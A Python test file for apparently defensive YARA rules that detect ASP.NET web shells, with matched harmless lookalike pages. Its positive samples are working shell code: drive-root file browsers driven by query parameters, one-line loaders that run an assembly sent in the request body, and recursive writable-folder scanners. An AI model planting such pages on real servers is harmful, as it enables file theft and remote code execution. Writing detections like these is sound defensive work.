"""Rules from the forty-fifth unseen collection: first-sight shells from web shell and tool repositories (issue 14,
helper X45).

On first sight (BENCHMARKS.md, "Unseen shells, forty-fifth collection") two pages of one author were found by
nothing - no rule of ours, no behaviour sink, no signature-base rule: "simple explorer" pages that join the drive
root (``"C:\\\\"``) with a folder or file name from the query string, list that folder and print any file's text.
``EXT_WEBSHELL_Drive_Root_Browser`` (``data/rules/drive_browsers.yar``) needs the four together: a drive root as a
string literal, a request value, a folder listing and a file read or sent back.

A second batch held a one-line loader found by the behaviour analysis alone: ``Assembly.Load`` of the raw request
body read in place (``Request.BinaryRead``), with no decoding and no reflection, which every older loader rule
wants. ``EXT_WEBSHELL_Assembly_Load_Raw_Request_Body`` (``data/rules/reflected_loaders.yar``) is that statement.

A third batch held a page found by neither (signature-base named it): "ScanWriteable", which walks every folder
under a path typed into it and creates a "test" file in each to list the writable ones.
``EXT_WEBSHELL_Writable_Folder_Scanner`` (``data/rules/drive_browsers.yar``) needs the probe (a file created and
tested for ``CanWrite`` in one statement), a recursive folder walk and a start folder from the page's input.

The pages below are harmless files in those shapes, written here (nothing is compiled or run; no test sends a
request), and none is a copy of a collected page. The ordinary pages are the closest everyday ones: a file browser
confined to a folder of the site, a disk space page that names the drive root but reads nothing the request names,
a log viewer joining a request name to a fixed log folder, a plug-in page loading an assembly from ``bin``, an
upload handler that reads the raw body and saves it, an installer checking that App_Data is writable, and a folder
size report over a typed path.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, rule_tables, yara_rules

_BROWSER = "EXT_WEBSHELL_Drive_Root_Browser"
_RAW_BODY = "EXT_WEBSHELL_Assembly_Load_Raw_Request_Body"
_SCANNER = "EXT_WEBSHELL_Writable_Folder_Scanner"

DRIVE_BROWSERS: list[Page] = [
    (
        "cs-inline-list-and-print",
        ".aspx",
        '<%@ Page Language="C#" %>\n<html><body>\n<%\n'
        '  string name = Request.QueryString["p"];\n'
        '  string full = System.IO.Path.Combine("C:\\\\", name ?? "");\n'
        '  if (Request.QueryString["show"] == null) {\n'
        "    foreach (string d in System.IO.Directory.GetDirectories(full)) { %><div><%= d %></div><% }\n"
        "    foreach (string f in System.IO.Directory.GetFiles(full)) { %><div><%= f %></div><% }\n"
        "  } else {\n"
        "    Response.Write(Server.HtmlEncode(System.IO.File.ReadAllText(full)));\n"
        "  }\n%>\n</body></html>\n",
    ),
    (
        "vb-script-block-transmit",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '  Dim where As String = System.IO.Path.Combine("D:\\", Request("dir"))\n'
        '  If Request("get") <> "" Then\n'
        "    Response.TransmitFile(where)\n    Response.End()\n  End If\n"
        "  For Each f As String In System.IO.Directory.EnumerateFiles(where)\n"
        '    Response.Write(f & "<br>")\n  Next\nEnd Sub\n</script>\n',
    ),
    (
        "cs-handler-verbatim-root-streamreader",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Look" %>\n'
        "using System; using System.IO; using System.Web;\n"
        "public class Look : IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        '    var dir = new DirectoryInfo(@"C:\\" + c.Request["d"]);\n'
        '    foreach (var f in dir.GetFiles()) c.Response.Write(f.Name + "\\n");\n'
        '    if (c.Request["f"] != null)\n'
        '      using (var r = new StreamReader(Path.Combine(dir.FullName, c.Request["f"]))) c.Response.Write(r.ReadToEnd());\n'
        "  }\n}\n",
    ),
]

DRIVE_ORDINARY: list[Page] = [
    (
        "file-browser-confined-to-site-folder",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string rel = Request.QueryString["dir"] ?? "";\n'
        '  if (rel.Contains("..") || rel.Contains(":")) { Response.StatusCode = 403; return; }\n'
        '  string root = Server.MapPath("~/files");\n'
        "  string here = System.IO.Path.Combine(root, rel);\n"
        "  foreach (string f in System.IO.Directory.GetFiles(here)) List.Items.Add(System.IO.Path.GetFileName(f));\n"
        '  if (Request.QueryString["view"] != null) Body.Text = Server.HtmlEncode(System.IO.File.ReadAllText(System.IO.Path.Combine(here, Request.QueryString["view"])));\n'
        "}\n</script>\n"
        '<asp:ListBox id="List" runat="server" /><asp:Label id="Body" runat="server" />',
    ),
    (
        "disk-space-page-names-drive-root",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  var d = new System.IO.DriveInfo("C:\\\\");\n'
        '  int top = int.Parse(Request.QueryString["top"] ?? "10");\n'
        '  Free.Text = (d.AvailableFreeSpace >> 30) + " GB free";\n'
        '  foreach (string f in System.IO.Directory.GetFiles(Server.MapPath("~/App_Data/reports")))\n'
        "    if (top-- > 0) Reports.Items.Add(System.IO.Path.GetFileName(f));\n"
        '  Note.Text = System.IO.File.ReadAllText(Server.MapPath("~/App_Data/motd.txt"));\n'
        "}\n</script>\n"
        '<asp:Label id="Free" runat="server" /><asp:ListBox id="Reports" runat="server" /><asp:Label id="Note" runat="server" />',
    ),
    (
        "log-viewer-fixed-log-folder",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'const string Logs = "D:\\\\logs\\\\shop\\\\";\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  foreach (string f in System.IO.Directory.GetFiles(Logs, "*.log")) Files.Items.Add(System.IO.Path.GetFileName(f));\n'
        '  string pick = System.IO.Path.GetFileName(Request.QueryString["log"] ?? "");\n'
        "  if (pick.Length > 0) Text.Text = Server.HtmlEncode(System.IO.File.ReadAllText(Logs + pick));\n"
        "}\n</script>\n"
        '<asp:ListBox id="Files" runat="server" /><asp:Label id="Text" runat="server" />',
    ),
]

RAW_BODY_LOADERS: list[Page] = [
    (
        "cs-inline-cookie-length",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        '<%try{ System.Reflection.Assembly.Load(Request.BinaryRead(int.Parse(Request.Cookies["n"].Value)))'
        '.CreateInstance("Probe"); } catch { }%>',
    ),
    (
        "vb-script-block-total-bytes",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        "  Dim a = System.Reflection.Assembly.Load(Request.BinaryRead(Request.TotalBytes))\n"
        '  a.CreateInstance("Probe")\nEnd Sub\n</script>\n',
    ),
    (
        "cs-handler-binaryreader-over-input-stream",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Load" %>\n'
        "using System; using System.IO; using System.Web; using System.Reflection;\n"
        "public class Load : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext context) {\n"
        "    var asm = Assembly.Load(new BinaryReader(context.Request.InputStream).ReadBytes(context.Request.ContentLength));\n"
        '    asm.CreateInstance("Probe");\n  }\n}\n',
    ),
]

RAW_BODY_ORDINARY: list[Page] = [
    (
        "plugin-loaded-from-bin",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string name = System.IO.Path.GetFileName(Request.QueryString["plugin"] ?? "Reports");\n'
        '  var asm = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/bin/plugins/" + name + ".dll")));\n'
        '  Title.Text = asm.GetName().Version.ToString();\n}\n</script>\n<asp:Label id="Title" runat="server" />',
    ),
    (
        "upload-handler-saves-raw-body",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Put" %>\n'
        "using System; using System.Web;\n"
        "public class Put : IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        "    byte[] body = c.Request.BinaryRead(c.Request.ContentLength);\n"
        '    System.IO.File.WriteAllBytes(c.Server.MapPath("~/App_Data/inbox/" + Guid.NewGuid().ToString("N") + ".bin"), body);\n'
        '    c.Response.Write("stored");\n  }\n}\n',
    ),
    (
        "assembly-by-name-from-query",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string which = Request.QueryString["module"] == "charts" ? "Acme.Charts" : "Acme.Tables";\n'
        "  var asm = System.Reflection.Assembly.Load(which);\n"
        '  Version.Text = asm.GetName().Version.ToString();\n}\n</script>\n<asp:Label id="Version" runat="server" />',
    ),
]

SCANNERS: list[Page] = [
    (
        "cs-textbox-start-recursive-probe",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Walk(System.IO.DirectoryInfo d) {\n"
        "  foreach (var sub in d.GetDirectories()) Walk(sub);\n"
        '  try { if (System.IO.File.Create(d.FullName + "\\\\probe").CanWrite) Found.Text += d.FullName + "<br>"; } catch { }\n}\n'
        "void Go_Click(object s, EventArgs e) { Walk(new System.IO.DirectoryInfo(Start.Text)); }\n</script>\n"
        '<form runat="server"><asp:TextBox id="Start" runat="server" /><asp:Button runat="server" OnClick="Go_Click" Text="Go" />'
        '<asp:Label id="Found" runat="server" /></form>',
    ),
    (
        "cs-handler-request-start",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Scan" %>\n'
        "using System; using System.IO; using System.Web;\n"
        "public class Scan : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  void Walk(DirectoryInfo d, HttpContext c) {\n"
        "    foreach (var sub in d.GetDirectories()) Walk(sub, c);\n"
        '    try { using (var f = File.Open(Path.Combine(d.FullName, "t.tmp"), FileMode.Create)) { if (f.CanWrite) c.Response.Write(d.FullName + "\\n"); } } catch { }\n  }\n'
        '  public void ProcessRequest(HttpContext c) { Walk(new DirectoryInfo(c.Request["root"]), c); }\n}\n',
    ),
]

SCANNER_ORDINARY: list[Page] = [
    (
        "installer-checks-app-data-is-writable",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string probe = Server.MapPath("~/App_Data/install.probe");\n'
        '  try { Ok.Text = System.IO.File.Create(probe).CanWrite ? "App_Data is writable" : "read-only"; } catch { Ok.Text = "read-only"; }\n'
        '  foreach (var d in new System.IO.DirectoryInfo(Server.MapPath("~/App_Data")).GetDirectories()) Dirs.Items.Add(d.Name);\n'
        "}\n</script>\n"
        '<asp:Label id="Ok" runat="server" /><asp:ListBox id="Dirs" runat="server" />',
    ),
    (
        "folder-size-report-from-typed-path",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "long Size(System.IO.DirectoryInfo d) {\n  long n = 0;\n"
        "  foreach (var f in d.GetFiles()) n += f.Length;\n  foreach (var sub in d.GetDirectories()) n += Size(sub);\n  return n;\n}\n"
        'void Go_Click(object s, EventArgs e) { Total.Text = (Size(new System.IO.DirectoryInfo(Folder.Text)) >> 20) + " MB"; }\n</script>\n'
        '<form runat="server"><asp:TextBox id="Folder" runat="server" /><asp:Button runat="server" OnClick="Go_Click" Text="Size" />'
        '<asp:Label id="Total" runat="server" /></form>',
    ),
]

CASES: list[RuleCase] = [
    (_BROWSER, DRIVE_BROWSERS, DRIVE_ORDINARY),
    (_RAW_BODY, RAW_BODY_LOADERS, RAW_BODY_ORDINARY),
    (_SCANNER, SCANNERS, SCANNER_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


def test_drive_root_is_what_separates_the_browser(tmp_path: Path, params: content.ContentParams) -> None:
    """The same listing-and-printing page joined to the site's own folder instead of the drive root is an
    application's file browser: the rule names the first and not the second."""
    shell = DRIVE_BROWSERS[0][2]
    confined = shell.replace(
        'System.IO.Path.Combine("C:\\\\", name ?? "")',
        'System.IO.Path.Combine(Server.MapPath("~/files"), name ?? "")',
    )
    assert confined != shell
    assert _BROWSER in yara_rules(tmp_path, "explorer.aspx", shell, params)
    assert _BROWSER not in yara_rules(tmp_path, "browse.aspx", confined, params)


def test_raw_body_loader_is_named_by_the_new_rule_only(tmp_path: Path, params: content.ContentParams) -> None:
    """The older loader rules stay silent on the undecoded body (so the new rule is the one that names it), and
    the new rule stays silent on the base64 loader they were written for."""
    raw = RAW_BODY_LOADERS[0][2]
    found = yara_rules(tmp_path, "one.aspx", raw, params)
    assert _RAW_BODY in found
    assert "EXT_WEBSHELL_Assembly_Load_Base64" not in found
    decoded = raw.replace(
        'Request.BinaryRead(int.Parse(Request.Cookies["n"].Value))',
        'Convert.FromBase64String(Request.Form["n"])',
    )
    assert decoded != raw
    found = yara_rules(tmp_path, "two.aspx", decoded, params)
    assert "EXT_WEBSHELL_Assembly_Load_Base64" in found
    assert _RAW_BODY not in found
